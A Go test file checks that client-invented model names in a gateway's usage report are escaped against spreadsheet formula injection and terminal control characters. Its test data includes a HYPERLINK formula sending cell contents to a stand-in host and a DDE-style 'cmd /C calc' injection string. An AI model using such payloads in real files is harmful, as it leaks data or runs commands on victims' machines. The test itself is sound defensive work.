package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"sluice/gateway/admin"
	"sluice/policy/limit"
)

// named are names invented by clients, as a terminal and a spreadsheet may show them.
var named = []struct{ name, table, csv string }{
	{"llm-max", "llm-max", "llm-max"},
	{"通义 模型|\\x", "通义 模型|\\x", "通义 模型|\\x"},
	{`=HYPERLINK("http://a.example/?"&A1,"x")`, `=HYPERLINK("http://a.example/?"&A1,"x")`, `'=HYPERLINK("http://a.example/?"&A1,"x")`},
	{"+1", "+1", "'+1"},
	{"-1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
	{"@SUM(1)", "@SUM(1)", "'@SUM(1)"},
	{"＝1", "＝1", "'＝1"},
	{"a;=1+1", "a;=1+1", "a;'=1+1"},
	{"a,-1", "a,-1", "a,'-1"},
	{"  =1", "  =1", "  '=1"},
	{"a -1", "a -1", "a -1"},
	{"a=1;b", "a=1;b", "a=1;b"},
	{"\t=1", `\t=1`, `\t=1`},
	{"\r=1\n@x", `\r=1\n@x`, `\r=1\n@x`},
	{"\x1b[2J\x07", `\x1b[2J\a`, `\x1b[2J\a`},
	{"evil\u202egpj", `evil\u202egpj`, `evil\u202egpj`},
	{"a\u200b\ufeff\u2028b", `a\u200b\ufeff\u2028b`, `a\u200b\ufeff\u2028b`},
	{"\u202e=1", `\u202e=1`, `\u202e=1`},
	{"a\u009bb\xffc", `a\u009bb\xffc`, `a\u009bb\xffc`},
	{"\U000e0001", `\U000e0001`, `\U000e0001`},
}

// TestNamesThatClientsMadeUp: no model's name is a formula to a spreadsheet or a command to a terminal; JSON has it
// unchanged. Amounts stay numbers, also below 0.
func TestNamesThatClientsMadeUp(t *testing.T) {
	for _, tt := range named {
		report := admin.UsageReport{Rows: []admin.UsageRow{{Team: "search", Entry: limit.Entry{
			Day: "2026-11-21", Model: tt.name, Endpoint: "text", Unit: "tokens", Used: "-35", Estimated: "0",
		}}}}
		var table, sheet strings.Builder
		if err := (usageCommand{}).writeTable(&table, report); err != nil || !strings.Contains(table.String(), "  "+tt.table+"  ") {
			t.Errorf("%q in the table (%v):\n%s", tt.name, err, table.String())
		}
		err := (usageCommand{}).writeCSV(&sheet, report)
		rows, bad := csv.NewReader(strings.NewReader(sheet.String())).ReadAll()
		if err != nil || bad != nil || len(rows) != 2 || rows[1][2] != tt.csv || rows[1][5] != "-35" {
			t.Errorf("%q as CSV (%v, %v): %q", tt.name, err, bad, rows)
		}
		for _, text := range []string{table.String(), sheet.String()} {
			if strings.ContainsFunc(strings.ReplaceAll(text, "\n", ""), func(r rune) bool {
				return strings.ContainsRune("\x1b\r\t\u202e\u200b\ufeff\u2028\u009b\U000e0001\ufffd", r)
			}) {
				t.Errorf("%q shows raw in %q", tt.name, text)
			}
		}
		exact, err := json.Marshal(report)
		var again admin.UsageReport
		if err != nil || json.Unmarshal(exact, &again) != nil || again.Rows[0].Model != strings.ToValidUTF8(tt.name, "\ufffd") {
			t.Errorf("%q as JSON: %s (%v)", tt.name, exact, err)
		}
	}
}
